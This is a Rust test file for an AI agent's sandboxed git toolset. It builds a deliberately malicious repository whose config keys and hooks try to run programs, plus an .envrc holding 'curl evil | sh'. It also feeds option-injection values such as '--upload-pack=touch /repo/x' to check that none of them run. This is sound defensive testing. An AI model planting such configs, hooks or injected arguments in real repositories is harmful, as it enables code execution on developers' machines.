//! The git toolset on real repositories, through the real orchestrator and the real process
//! jail: status, diff, log, branches, show, stage, commit, checkout, push and pull, with a
//! bare remote; `git_push` refused to the model and asking only when forced; arguments git would
//! read as options refused before anything runs; and a repository whose configuration and
//! hooks try to run programs (`core.fsmonitor`, hooks in `.git/hooks`, filter, diff and merge
//! drivers, a pager, a hook in the remote) running none of them.
//!
//! Each test makes its repositories with the host's git (no user or system configuration) in a
//! temporary directory holding two zones: `repo`, the repository's working tree, and `remote`,
//! which holds the bare repository `origin.git`. The jail shows a program only the worker's
//! zones, each at `/<zone>`, so the remote has to be in a zone for git inside the jail to reach
//! it, and `origin`'s URL is the path it has there: `/remote/origin.git`.
//!
//! The jail runs its helper as `<this binary> __jail …` (the `golem-forge` binary does the
//! same), so this test binary is its own helper: `harness = false`, and `main` answers the
//! helper's arguments before it runs the tests, with a small runner of its own (a filter
//! argument runs the tests whose names contain it).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests: a failure is a test failure"
)]

use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use golem_core::approval::{ApprovalCallback, ApprovalController, ApprovalMode};
use golem_core::bus::UiEventBus;
use golem_core::orchestrator::{CallOutcome, ToolCall, ToolCallOrchestrator};
use golem_core::registry::ToolRegistry;
use golem_core::ui::RuntimeUI;
use golem_protocol::{ApprovalRequest, ApprovalResponse, ToolErrorCode, ToolStatus};
use golem_sandbox::jail::{Jail, JailPolicy};
use golem_sandbox::{Sandbox, ZoneConfig, ZoneMode};
use golem_testkit::git::host_git;
use golem_tools::git::{GitToolsetConfig, READ_TOOLS, git_tools};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use golem_sandbox::jail::{HELPER_ARG, helper_main};
use golem_testkit::harness::{Test, block_on};

const TESTS: &[(&str, Test)] = &[
    (
        "status_diff_stage_commit_log_and_show_on_a_real_repository",
        status_diff_stage_commit_log_and_show_on_a_real_repository,
    ),
    (
        "push_and_pull_through_a_bare_remote_in_a_second_zone",
        push_and_pull_through_a_bare_remote_in_a_second_zone,
    ),
    (
        "the_model_cannot_push_and_a_forced_push_asks",
        the_model_cannot_push_and_a_forced_push_asks,
    ),
    ("branches_and_checkout", branches_and_checkout),
    (
        "a_malicious_repository_runs_none_of_its_programs",
        a_malicious_repository_runs_none_of_its_programs,
    ),
    (
        "hooks_run_when_the_toolset_allows_them",
        hooks_run_when_the_toolset_allows_them,
    ),
    (
        "values_git_would_read_as_options_and_paths_outside_are_refused",
        values_git_would_read_as_options_and_paths_outside_are_refused,
    ),
    (
        "protected_files_are_never_written_by_checkout_or_pull",
        protected_files_are_never_written_by_checkout_or_pull,
    ),
    (
        "a_branch_that_brings_hooks_where_core_hooks_path_points_is_refused",
        a_branch_that_brings_hooks_where_core_hooks_path_points_is_refused,
    ),
    (
        "a_read_only_zone_gets_the_read_only_tools",
        a_read_only_zone_gets_the_read_only_tools,
    ),
    (
        "a_directory_that_is_no_repository_is_a_clear_error",
        a_directory_that_is_no_repository_is_a_clear_error,
    ),
];

fn main() -> ExitCode {
    golem_testkit::harness::main(TESTS, (HELPER_ARG, helper_main))
}

// ---- the fixture ----

/// Two zones on disk (`repo` with a repository of one commit, `remote` with a bare `origin.git`
/// that `origin` points at), the git tools over them, and an approval prompt that records what
/// it was asked and answers `approve`.
struct Env {
    dir: tempfile::TempDir,
    orchestrator: ToolCallOrchestrator,
    tools: Vec<String>,
    asked: Arc<Mutex<Vec<ApprovalRequest>>>,
    approve: Arc<AtomicBool>,
}

struct Setup {
    hooks: bool,
    repo_mode: ZoneMode,
    init: bool,
}

impl Default for Setup {
    fn default() -> Self {
        Setup {
            hooks: false,
            repo_mode: ZoneMode::Rw,
            init: true,
        }
    }
}

impl Env {
    fn new() -> Env {
        Env::with(Setup::default())
    }

    fn with(setup: Setup) -> Env {
        let dir = tempfile::tempdir().unwrap();
        let repo = dir.path().join("repo");
        let remote = dir.path().join("remote");
        std::fs::create_dir_all(&repo).unwrap();
        std::fs::create_dir_all(&remote).unwrap();
        if setup.init {
            host_git(&repo, &["init", "-q"]);
            std::fs::write(repo.join("README.md"), "# Project\n\nfirst line\n").unwrap();
            host_git(&repo, &["add", "README.md"]);
            host_git(&repo, &["commit", "-q", "-m", "Initial commit"]);
            host_git(&remote, &["init", "-q", "--bare", "origin.git"]);
            // The URL as git sees it in the jail, where the zone `remote` is `/remote`.
            host_git(&repo, &["remote", "add", "origin", "/remote/origin.git"]);
        }
        let zones = [
            ZoneConfig::new("repo", setup.repo_mode),
            ZoneConfig::new("remote", ZoneMode::Rw),
        ];
        let sandbox = Sandbox::open(dir.path(), &zones).unwrap();
        let helper = std::env::current_exe().unwrap();
        let jail = |network| {
            Jail::new(
                helper.clone(),
                sandbox.clone(),
                JailPolicy {
                    network,
                    ..JailPolicy::default()
                },
            )
        };
        let config = GitToolsetConfig {
            zone: "repo".into(),
            hooks: setup.hooks,
            author: None,
            timeout: 60,
            jail: Default::default(),
            limits: Default::default(),
            allow_private: Vec::new(),
        };
        let tools = git_tools(jail(false), Some(jail(true)), &config).unwrap();
        let names = tools.iter().map(|t| t.name().to_owned()).collect();
        let mut registry = ToolRegistry::new();
        for tool in tools {
            registry.register(tool).unwrap();
        }
        let asked = Arc::new(Mutex::new(Vec::new()));
        let approve = Arc::new(AtomicBool::new(true));
        let callback: ApprovalCallback = {
            let asked = asked.clone();
            let approve = approve.clone();
            Arc::new(move |request: ApprovalRequest, _cancel| {
                let response = if approve.load(Ordering::SeqCst) {
                    ApprovalResponse::approve(&request.request_id)
                } else {
                    ApprovalResponse::deny(&request.request_id, None)
                };
                asked.lock().unwrap().push(request);
                Box::pin(async move { Ok(response) })
            })
        };
        let controller = ApprovalController::new(ApprovalMode::Interactive).with_callback(callback);
        let orchestrator = ToolCallOrchestrator::new(
            Arc::new(registry),
            controller,
            RuntimeUI::new(UiEventBus::new()),
        );
        Env {
            dir,
            orchestrator,
            tools: names,
            asked,
            approve,
        }
    }

    fn repo(&self) -> PathBuf {
        self.dir.path().join("repo")
    }

    fn origin(&self) -> PathBuf {
        self.dir.path().join("remote/origin.git")
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.repo().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    async fn call(&self, call: ToolCall) -> CallOutcome {
        self.orchestrator
            .call(call, &CancellationToken::new())
            .await
    }

    async fn model(&self, tool: &str, args: Value) -> CallOutcome {
        self.call(ToolCall::from_model("m1", tool, args)).await
    }

    async fn user(&self, tool: &str, args: Value) -> CallOutcome {
        self.call(ToolCall::from_user("u1", tool, args)).await
    }

    /// The call's result, which must be a success.
    async fn ok(&self, tool: &str, args: Value) -> CallOutcome {
        let outcome = self.model(tool, args.clone()).await;
        assert_eq!(
            outcome.status,
            ToolStatus::Success,
            "{tool} {args}: {:?}",
            outcome.error
        );
        outcome
    }

    fn asked(&self) -> Vec<String> {
        self.asked
            .lock()
            .unwrap()
            .iter()
            .map(|r| format!("{}: {}", r.tool_name, r.description))
            .collect()
    }

    fn forget_asked(&self) {
        self.asked.lock().unwrap().clear();
    }

    /// The commit `branch` points at in the bare remote, or `None`.
    fn remote_head(&self, branch: &str) -> Option<String> {
        let output = Command::new("git")
            .args(["rev-parse", "--verify", "--quiet"])
            .arg(format!("refs/heads/{branch}"))
            .env("GIT_DIR", self.origin())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        output
            .status
            .success()
            .then(|| String::from_utf8_lossy(&output.stdout).trim().to_owned())
    }

    fn local_head(&self) -> String {
        host_git(&self.repo(), &["rev-parse", "HEAD"])
            .trim()
            .to_owned()
    }
}

fn strings(value: &Value) -> Vec<String> {
    value
        .as_array()
        .unwrap()
        .iter()
        .map(|v| match v {
            Value::String(s) => s.clone(),
            other => other["path"].as_str().unwrap().to_owned(),
        })
        .collect()
}

// ---- the tests ----

fn status_diff_stage_commit_log_and_show_on_a_real_repository() {
    block_on(async {
        let env = Env::new();
        let clean = env.ok("git_status", json!({})).await;
        assert_eq!(clean.value.kind, "git.status");
        assert_eq!(clean.value.summary.as_deref(), Some("0 staged, 0 modified"));
        assert_eq!(clean.value.display.as_ref().unwrap().collapsed, Some(true));
        assert_eq!(clean.value.data["branch"], "main");

        env.write("README.md", "# Project\n\nfirst line\nsecond line\n");
        env.write("src/new.txt", "new\n");
        let status = env.ok("git_status", json!({})).await;
        let data = &status.value.data;
        assert_eq!(strings(&data["modified"]), ["/repo/README.md"]);
        assert_eq!(data["modified"][0]["change"], "modified");
        assert_eq!(strings(&data["untracked"]), ["/repo/src/"]);
        assert_eq!(
            status.value.summary.as_deref(),
            Some("0 staged, 1 modified, 1 untracked")
        );
        assert_eq!(
            status.value.display.as_ref().unwrap().collapsed,
            Some(false)
        );

        let diff = env.ok("git_diff", json!({})).await;
        assert_eq!(diff.value.kind, "diff");
        let files = diff.value.data["files"].as_array().unwrap();
        assert_eq!(files.len(), 1);
        assert_eq!(files[0]["path"], "/repo/README.md");
        assert_eq!(diff.value.data["path"], "/repo/README.md");
        let lines = &files[0]["hunks"][0]["lines"];
        assert!(
            lines.as_array().unwrap().contains(&json!("+second line")),
            "{lines}"
        );
        assert_eq!(
            diff.value.summary.as_deref(),
            Some("1 file, +1 \u{2212}0 lines")
        );
        assert!(diff.model_text().contains("+second line"));

        // Staging asks, and shows the status after it.
        let staged = env
            .ok(
                "git_stage",
                json!({"paths": ["README.md", "/repo/src/new.txt"]}),
            )
            .await;
        assert_eq!(
            env.asked(),
            ["git_stage: Stage /repo/README.md, /repo/src/new.txt for the next commit"]
        );
        assert_eq!(staged.value.kind, "git.status");
        assert_eq!(
            strings(&staged.value.data["staged"]),
            ["/repo/README.md", "/repo/src/new.txt"]
        );
        assert_eq!(
            staged.value.summary.as_deref(),
            Some("staged 2 paths; 2 staged, 0 modified")
        );

        let staged_diff = env.ok("git_diff", json!({"staged": true})).await;
        let files = staged_diff.value.data["files"].as_array().unwrap();
        assert_eq!(files.len(), 2);
        assert_eq!(files[1]["path"], "/repo/src/new.txt");
        assert_eq!(files[1]["isNew"], true);
        assert_eq!(staged_diff.value.data["path"], "/repo");
        assert_eq!(
            staged_diff.value.summary.as_deref(),
            Some("2 files, +2 \u{2212}0 lines")
        );
        let text = staged_diff.model_text();
        assert!(
            text.contains("/repo/README.md") && text.contains("/repo/src/new.txt"),
            "the model is told each file: {text}"
        );
        let only = env
            .ok("git_diff", json!({"staged": true, "path": "src"}))
            .await;
        assert_eq!(only.value.data["files"].as_array().unwrap().len(), 1);

        env.forget_asked();
        let commit = env
            .ok(
                "git_commit",
                json!({"message": "Add a line\n\nAnd a file."}),
            )
            .await;
        assert_eq!(
            env.asked(),
            ["git_commit: Commit the staged changes of /repo: \"Add a line\""]
        );
        let summary = commit.value.summary.clone().unwrap();
        assert!(
            summary.starts_with("committed ") && summary.ends_with(" on main"),
            "{summary}"
        );
        let author = host_git(&env.repo(), &["log", "-1", "--format=%an <%ae>"]);
        assert_eq!(author.trim(), "Golem Forge <golem-forge@localhost>");

        let log = env.ok("git_log", json!({"limit": 5})).await;
        assert_eq!(log.value.kind, "table");
        let rows = log.value.data["rows"].as_array().unwrap();
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0]["subject"], "Add a line");
        assert_eq!(rows[1]["subject"], "Initial commit");
        assert_eq!(rows[0]["author"], "Golem Forge");
        let one = env
            .ok("git_log", json!({"path": "/repo/src/new.txt"}))
            .await;
        assert_eq!(one.value.data["rows"].as_array().unwrap().len(), 1);

        let show = env.ok("git_show", json!({"rev": "HEAD"})).await;
        let text = show.value.data["content"].as_str().unwrap();
        assert!(
            text.contains("Add a line") && text.contains("+second line"),
            "{text}"
        );
        let file = env.ok("git_show", json!({"rev": "HEAD~1:README.md"})).await;
        assert_eq!(file.value.data["content"], "# Project\n\nfirst line\n");

        let clean = env.ok("git_status", json!({})).await;
        assert_eq!(clean.value.display.as_ref().unwrap().collapsed, Some(true));
        assert_eq!(
            env.ok("git_diff", json!({})).await.value.summary.as_deref(),
            Some("no changes")
        );
    });
}

fn push_and_pull_through_a_bare_remote_in_a_second_zone() {
    block_on(async {
        let env = Env::new();
        assert_eq!(env.remote_head("main"), None);
        let pushed = env.user("git_push", json!({"branch": "main"})).await;
        assert_eq!(pushed.status, ToolStatus::Success, "{:?}", pushed.error);
        assert!(
            env.asked().is_empty(),
            "a push the user asked for is not asked again"
        );
        assert_eq!(
            pushed.value.summary.as_deref(),
            Some("pushed main to origin")
        );
        assert_eq!(env.remote_head("main"), Some(env.local_head()));

        // Someone else pushes a commit to the remote.
        let other = env.dir.path().join("other");
        host_git(
            env.dir.path(),
            &["clone", "-q", env.origin().to_str().unwrap(), "other"],
        );
        std::fs::write(other.join("theirs.txt"), "from elsewhere\n").unwrap();
        host_git(&other, &["add", "theirs.txt"]);
        host_git(&other, &["commit", "-q", "-m", "Their change"]);
        host_git(&other, &["push", "-q", "origin", "main"]);

        let pulled = env
            .ok("git_pull", json!({"remote": "origin", "branch": "main"}))
            .await;
        assert_eq!(env.asked().len(), 1, "pulling asks: {:?}", env.asked());
        assert!(
            env.asked()[0].contains("uses the network"),
            "{:?}",
            env.asked()
        );
        assert_eq!(pulled.value.summary.as_deref(), Some("pulled from origin"));
        assert_eq!(
            std::fs::read_to_string(env.repo().join("theirs.txt")).unwrap(),
            "from elsewhere\n"
        );
        let log = env.ok("git_log", json!({})).await;
        assert_eq!(log.value.data["rows"][0]["subject"], "Their change");
    });
}

fn the_model_cannot_push_and_a_forced_push_asks() {
    block_on(async {
        let env = Env::new();
        let refused = env.model("git_push", json!({"branch": "main"})).await;
        assert_eq!(refused.status, ToolStatus::Error);
        let error = refused.error.unwrap();
        assert_eq!(error.code, ToolErrorCode::NotFound);
        assert!(
            error.message.contains("only be invoked by the user"),
            "{}",
            error.message
        );
        assert!(refused.executed_args.is_none());
        assert!(env.asked().is_empty());
        assert_eq!(env.remote_head("main"), None, "nothing was pushed");

        env.approve.store(false, Ordering::SeqCst);
        let denied = env
            .user("git_push", json!({"branch": "main", "force": true}))
            .await;
        assert_eq!(denied.status, ToolStatus::Denied);
        assert_eq!(
            env.asked(),
            [
                "git_push: Force-push `main` of /repo to origin (/remote/origin.git), \
                 overwriting the remote branch"
            ]
        );
        assert_eq!(env.remote_head("main"), None, "a denied push never runs");

        // A remote the repository does not have is git's error, before anything is asked.
        env.forget_asked();
        let missing = env
            .user("git_push", json!({"branch": "main", "remote": "upstream"}))
            .await;
        let error = missing.error.unwrap();
        assert_eq!(error.code, ToolErrorCode::ExecutionError);
        assert!(error.message.contains("upstream"), "{}", error.message);
        assert!(env.asked().is_empty());

        env.approve.store(true, Ordering::SeqCst);
        let forced = env
            .user("git_push", json!({"branch": "main", "force": true}))
            .await;
        assert_eq!(forced.status, ToolStatus::Success, "{:?}", forced.error);
        assert_eq!(env.remote_head("main"), Some(env.local_head()));
    });
}

fn branches_and_checkout() {
    block_on(async {
        let env = Env::new();
        env.ok("git_checkout", json!({"branch": "topic", "create": true}))
            .await;
        assert_eq!(
            env.asked(),
            ["git_checkout: Create the branch `topic` in /repo and switch to it"]
        );
        let branches = env.ok("git_branches", json!({})).await;
        let rows = branches.value.data["rows"].as_array().unwrap();
        let current: Vec<&Value> = rows.iter().filter(|r| r["current"] == true).collect();
        assert_eq!(current.len(), 1);
        assert_eq!(current[0]["branch"], "topic");
        assert_eq!(
            branches.value.summary.as_deref(),
            Some("2 local, 0 remote, on topic")
        );
        env.ok("git_checkout", json!({"branch": "main"})).await;
        let status = env.ok("git_status", json!({})).await;
        assert_eq!(status.value.data["branch"], "main");
        // A branch that does not exist is git's error, not a panic.
        let missing = env.model("git_checkout", json!({"branch": "nope"})).await;
        assert_eq!(missing.error.unwrap().code, ToolErrorCode::ExecutionError);
    });
}

/// The repository's configuration sets programs for every place git would run one, its hooks
/// directory holds hooks for every step, and the bare remote has a receiving hook: each would
/// leave a `pwned-…` file in the zone. Every tool runs; no file appears.
fn a_malicious_repository_runs_none_of_its_programs() {
    block_on(async {
        let env = Env::new();
        // The control: this git does run `core.fsmonitor` as a command.
        let marker = env.dir.path().join("control-fsmonitor");
        host_git(
            &env.repo(),
            &[
                "-c",
                &format!("core.fsmonitor=touch {}", marker.display()),
                "status",
            ],
        );
        assert!(
            marker.exists(),
            "the host's git ran the fsmonitor: the test can tell"
        );

        let touch = |name: &str| format!("touch /repo/pwned-{name}");
        for (key, value) in [
            ("core.fsmonitor", touch("fsmonitor")),
            ("core.pager", touch("pager")),
            ("core.editor", touch("editor")),
            ("core.sshCommand", touch("ssh")),
            ("core.askPass", touch("askpass")),
            ("credential.helper", format!("!{}", touch("credential"))),
            ("diff.external", touch("external-diff")),
            ("diff.evil.textconv", touch("textconv")),
            ("diff.evil.command", touch("diff-command")),
            ("filter.evil.clean", format!("{}; cat", touch("clean"))),
            ("filter.evil.smudge", format!("{}; cat", touch("smudge"))),
            ("filter.evil.process", touch("process")),
            ("merge.evil.driver", touch("merge")),
            ("pager.log", touch("pager-log")),
            ("commit.gpgSign", "true".to_owned()),
            ("gpg.program", touch("gpg")),
            (
                "remote.origin.receivepack",
                format!("{}; git-receive-pack", touch("receivepack")),
            ),
            (
                "remote.origin.uploadpack",
                format!("{}; git-upload-pack", touch("uploadpack")),
            ),
            ("core.hooksPath", ".git/hooks".to_owned()),
        ] {
            host_git(&env.repo(), &["config", key, &value]);
        }
        env.write(".gitattributes", "*.txt filter=evil diff=evil merge=evil\n");
        let hook = |dir: &Path, name: &str| {
            let path = dir.join(name);
            std::fs::write(&path, format!("#!/bin/sh\n{}\n", touch(name))).unwrap();
            let mut permissions = std::fs::metadata(&path).unwrap().permissions();
            std::os::unix::fs::PermissionsExt::set_mode(&mut permissions, 0o755);
            std::fs::set_permissions(&path, permissions).unwrap();
        };
        let hooks = env.repo().join(".git/hooks");
        for name in [
            "pre-commit",
            "prepare-commit-msg",
            "commit-msg",
            "post-commit",
            "post-checkout",
            "pre-push",
            "post-merge",
            "pre-merge-commit",
            "reference-transaction",
            "post-index-change",
        ] {
            hook(&hooks, name);
        }
        for name in ["pre-receive", "update", "post-receive", "post-update"] {
            hook(&env.origin().join("hooks"), name);
        }

        env.write("a.txt", "one\n");
        env.ok("git_status", json!({})).await;
        env.ok("git_stage", json!({"paths": [".gitattributes", "a.txt"]}))
            .await;
        env.ok("git_diff", json!({"staged": true})).await;
        env.ok("git_commit", json!({"message": "Add a"})).await;
        env.write("a.txt", "one\ntwo\n");
        env.ok("git_diff", json!({})).await;
        env.ok("git_log", json!({})).await;
        env.ok("git_show", json!({"rev": "HEAD"})).await;
        env.ok("git_checkout", json!({"branch": "side", "create": true}))
            .await;
        env.ok("git_stage", json!({"paths": ["a.txt"]})).await;
        env.ok("git_commit", json!({"message": "Two"})).await;
        env.ok("git_checkout", json!({"branch": "main"})).await;
        let pushed = env.user("git_push", json!({"branch": "side"})).await;
        assert_eq!(pushed.status, ToolStatus::Success, "{:?}", pushed.error);
        env.ok("git_pull", json!({"branch": "side"})).await;
        assert_eq!(
            std::fs::read_to_string(env.repo().join("a.txt")).unwrap(),
            "one\ntwo\n",
            "the pull merged"
        );

        let pwned: Vec<String> = std::fs::read_dir(env.repo())
            .unwrap()
            .chain(std::fs::read_dir(env.dir.path().join("remote")).unwrap())
            .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|name| name.starts_with("pwned"))
            .collect();
        assert!(pwned.is_empty(), "programs ran: {pwned:?}");
    });
}

/// With `hooks: true` the repository's hooks do run (so the test above would see one that ran).
fn hooks_run_when_the_toolset_allows_them() {
    block_on(async {
        let env = Env::with(Setup {
            hooks: true,
            ..Setup::default()
        });
        let hook = env.repo().join(".git/hooks/post-commit");
        std::fs::write(&hook, "#!/bin/sh\ntouch /repo/hook-ran\n").unwrap();
        let mut permissions = std::fs::metadata(&hook).unwrap().permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut permissions, 0o755);
        std::fs::set_permissions(&hook, permissions).unwrap();
        env.write("b.txt", "b\n");
        env.ok("git_stage", json!({"paths": ["b.txt"]})).await;
        env.ok("git_commit", json!({"message": "B"})).await;
        assert!(env.repo().join("hook-ran").exists());
    });
}

fn values_git_would_read_as_options_and_paths_outside_are_refused() {
    block_on(async {
        let env = Env::new();
        for (tool, args, code) in [
            (
                "git_show",
                json!({"rev": "--output=/repo/x"}),
                ToolErrorCode::InvalidArguments,
            ),
            (
                "git_show",
                json!({"rev": "-p"}),
                ToolErrorCode::InvalidArguments,
            ),
            (
                "git_diff",
                json!({"path": "--output=/repo/x"}),
                ToolErrorCode::InvalidArguments,
            ),
            (
                "git_log",
                json!({"path": "-S"}),
                ToolErrorCode::InvalidArguments,
            ),
            (
                "git_checkout",
                json!({"branch": "-b"}),
                ToolErrorCode::InvalidArguments,
            ),
            (
                "git_checkout",
                json!({"branch": "--upload-pack=touch /repo/x"}),
                ToolErrorCode::InvalidArguments,
            ),
            (
                "git_pull",
                json!({"branch": "main:other"}),
                ToolErrorCode::InvalidArguments,
            ),
            (
                "git_stage",
                json!({"paths": ["../outside"]}),
                ToolErrorCode::InvalidPath,
            ),
            (
                "git_stage",
                json!({"paths": ["/remote/origin.git"]}),
                ToolErrorCode::InvalidPath,
            ),
            (
                "git_diff",
                json!({"path": "/nowhere/x"}),
                ToolErrorCode::InvalidPath,
            ),
            (
                "git_commit",
                json!({"message": "  "}),
                ToolErrorCode::InvalidArguments,
            ),
        ] {
            let outcome = env.model(tool, args.clone()).await;
            let error = outcome.error.unwrap_or_else(|| panic!("{tool} {args} ran"));
            assert_eq!(error.code, code, "{tool} {args}: {}", error.message);
            assert!(outcome.executed_args.is_none());
        }
        for branch in ["+main", ":main", "-f", "--force"] {
            let outcome = env.user("git_push", json!({"branch": branch})).await;
            assert_eq!(
                outcome.error.unwrap().code,
                ToolErrorCode::InvalidArguments,
                "{branch}"
            );
        }
        // A remote git_push does not know is refused by its schema.
        let outcome = env
            .user(
                "git_push",
                json!({"branch": "main", "remote": "/tmp/elsewhere"}),
            )
            .await;
        assert_eq!(outcome.error.unwrap().code, ToolErrorCode::InvalidArguments);
        assert!(env.asked().is_empty(), "nothing was put to the user");
        assert_eq!(env.remote_head("main"), None);
        assert!(!env.repo().join("x").exists());
    });
}

/// With `core.hooksPath=.githooks` (issue 45), a branch that brings `.githooks/pre-commit` is
/// refused by `git_checkout` before anything changes: the hooks directory is judged from the
/// repository's configuration, not from its name.
fn a_branch_that_brings_hooks_where_core_hooks_path_points_is_refused() {
    block_on(async {
        let env = Env::new();
        host_git(&env.repo(), &["switch", "-q", "-c", "hooks"]);
        env.write(".githooks/pre-commit", "#!/bin/sh\ntouch /tmp/pwned\n");
        host_git(&env.repo(), &["add", "."]);
        host_git(&env.repo(), &["commit", "-q", "-m", "Hooks"]);
        host_git(&env.repo(), &["switch", "-q", "main"]);
        host_git(&env.repo(), &["config", "core.hooksPath", ".githooks"]);
        let head = env.local_head();
        let outcome = env.model("git_checkout", json!({"branch": "hooks"})).await;
        assert_eq!(outcome.status, ToolStatus::Blocked, "{:?}", outcome.error);
        let message = outcome.error.unwrap().message;
        assert!(
            message.starts_with("protected: /repo/.githooks/pre-commit is read outside"),
            "{message}"
        );
        assert!(!env.repo().join(".githooks").exists());
        assert_eq!(env.local_head(), head);
    });
}

/// A branch that would bring an `.envrc` and editor settings into the working tree is refused
/// before anyone is asked (checkout) or before it is merged (pull), naming the files; the
/// toolset never writes the repository's configuration, not even for a remote branch.
fn protected_files_are_never_written_by_checkout_or_pull() {
    block_on(async {
        let env = Env::new();
        let origin = env.origin().to_str().unwrap().to_owned();
        host_git(&env.repo(), &["switch", "-q", "-c", "evil"]);
        env.write(".envrc", "curl evil | sh\n");
        env.write(".vscode/settings.json", "{}\n");
        env.write("ok.txt", "fine\n");
        host_git(&env.repo(), &["add", "."]);
        host_git(&env.repo(), &["commit", "-q", "-m", "Evil"]);
        host_git(&env.repo(), &["push", "-q", &origin, "evil"]);
        host_git(&env.repo(), &["switch", "-q", "main"]);
        host_git(&env.repo(), &["push", "-q", &origin, "main"]);
        let config = std::fs::read(env.repo().join(".git/config")).unwrap();
        let head = env.local_head();

        let outcome = env.model("git_checkout", json!({"branch": "evil"})).await;
        assert_eq!(outcome.status, ToolStatus::Blocked, "{:?}", outcome.error);
        let error = outcome.error.unwrap();
        assert_eq!(error.code, ToolErrorCode::Blocked);
        assert_eq!(
            error.message,
            "protected: /repo/.envrc, /repo/.vscode/settings.json are read outside the \
             sandbox, and switching to `evil` would change them; nothing was changed"
        );
        assert!(env.asked().is_empty(), "blocked before anyone is asked");
        assert!(!env.repo().join(".envrc").exists());
        assert_eq!(env.local_head(), head);

        // Pulling the same branch asks (it needs the network), fetches, and merges nothing.
        let pulled = env.model("git_pull", json!({"branch": "evil"})).await;
        assert_eq!(pulled.status, ToolStatus::Blocked, "{:?}", pulled.error);
        let message = pulled.error.unwrap().message;
        assert!(
            message.starts_with("protected: /repo/.envrc, /repo/.vscode/settings.json are"),
            "{message}"
        );
        assert!(message.contains("pulling `evil` from origin"), "{message}");
        assert!(!env.repo().join(".envrc").exists());
        assert!(!env.repo().join("ok.txt").exists());
        assert_eq!(env.local_head(), head);

        // A remote branch of harmless files: switched to, without an upstream written into
        // the configuration.
        host_git(&env.repo(), &["switch", "-q", "-c", "plain"]);
        env.write("plain.txt", "plain\n");
        host_git(&env.repo(), &["add", "plain.txt"]);
        host_git(&env.repo(), &["commit", "-q", "-m", "Plain"]);
        host_git(&env.repo(), &["push", "-q", &origin, "plain"]);
        host_git(&env.repo(), &["switch", "-q", "main"]);
        host_git(&env.repo(), &["branch", "-q", "-D", "plain"]);
        env.forget_asked();
        env.ok("git_pull", json!({"branch": "main"})).await;
        let fetch = env
            .user("git_pull", json!({"branch": "plain", "rebase": true}))
            .await;
        assert_eq!(fetch.status, ToolStatus::Success, "{:?}", fetch.error);
        assert_eq!(
            std::fs::read_to_string(env.repo().join("plain.txt")).unwrap(),
            "plain\n",
            "the rebase onto plain brought its file"
        );
        host_git(&env.repo(), &["reset", "-q", "--hard", &head]);
        host_git(
            &env.repo(),
            &["fetch", "-q", &origin, "plain:refs/remotes/origin/plain"],
        );
        env.ok("git_checkout", json!({"branch": "plain"})).await;
        let status = env.ok("git_status", json!({})).await;
        assert_eq!(status.value.data["branch"], "plain");
        assert_eq!(
            std::fs::read(env.repo().join(".git/config")).unwrap(),
            config,
            "the repository's configuration is unchanged"
        );

        // Without a branch, git_pull merges the current branch's upstream; a branch that
        // follows none is an error saying so.
        let outcome = env.model("git_pull", json!({})).await;
        let error = outcome.error.unwrap();
        assert_eq!(error.code, ToolErrorCode::ExecutionError);
        assert!(
            error.message.contains("plain follows no branch of origin"),
            "{}",
            error.message
        );
        host_git(&env.repo(), &["switch", "-q", "main"]);
        host_git(
            &env.repo(),
            &["fetch", "-q", &origin, "main:refs/remotes/origin/main"],
        );
        host_git(
            &env.repo(),
            &["branch", "-q", "--set-upstream-to=origin/main"],
        );
        let pulled = env.ok("git_pull", json!({})).await;
        assert_eq!(pulled.value.summary.as_deref(), Some("pulled from origin"));
    });
}

fn a_read_only_zone_gets_the_read_only_tools() {
    block_on(async {
        let env = Env::with(Setup {
            repo_mode: ZoneMode::Ro,
            ..Setup::default()
        });
        assert_eq!(env.tools, READ_TOOLS);
        env.write("README.md", "changed\n");
        let status = env.ok("git_status", json!({})).await;
        assert_eq!(strings(&status.value.data["modified"]), ["/repo/README.md"]);
        env.ok("git_diff", json!({})).await;
    });
}

fn a_directory_that_is_no_repository_is_a_clear_error() {
    block_on(async {
        let env = Env::with(Setup {
            init: false,
            ..Setup::default()
        });
        let outcome = env.model("git_status", json!({})).await;
        let error = outcome.error.unwrap();
        assert_eq!(error.code, ToolErrorCode::ExecutionError);
        assert!(
            error.message.starts_with("/repo is not a git repository"),
            "{}",
            error.message
        );
    });
}
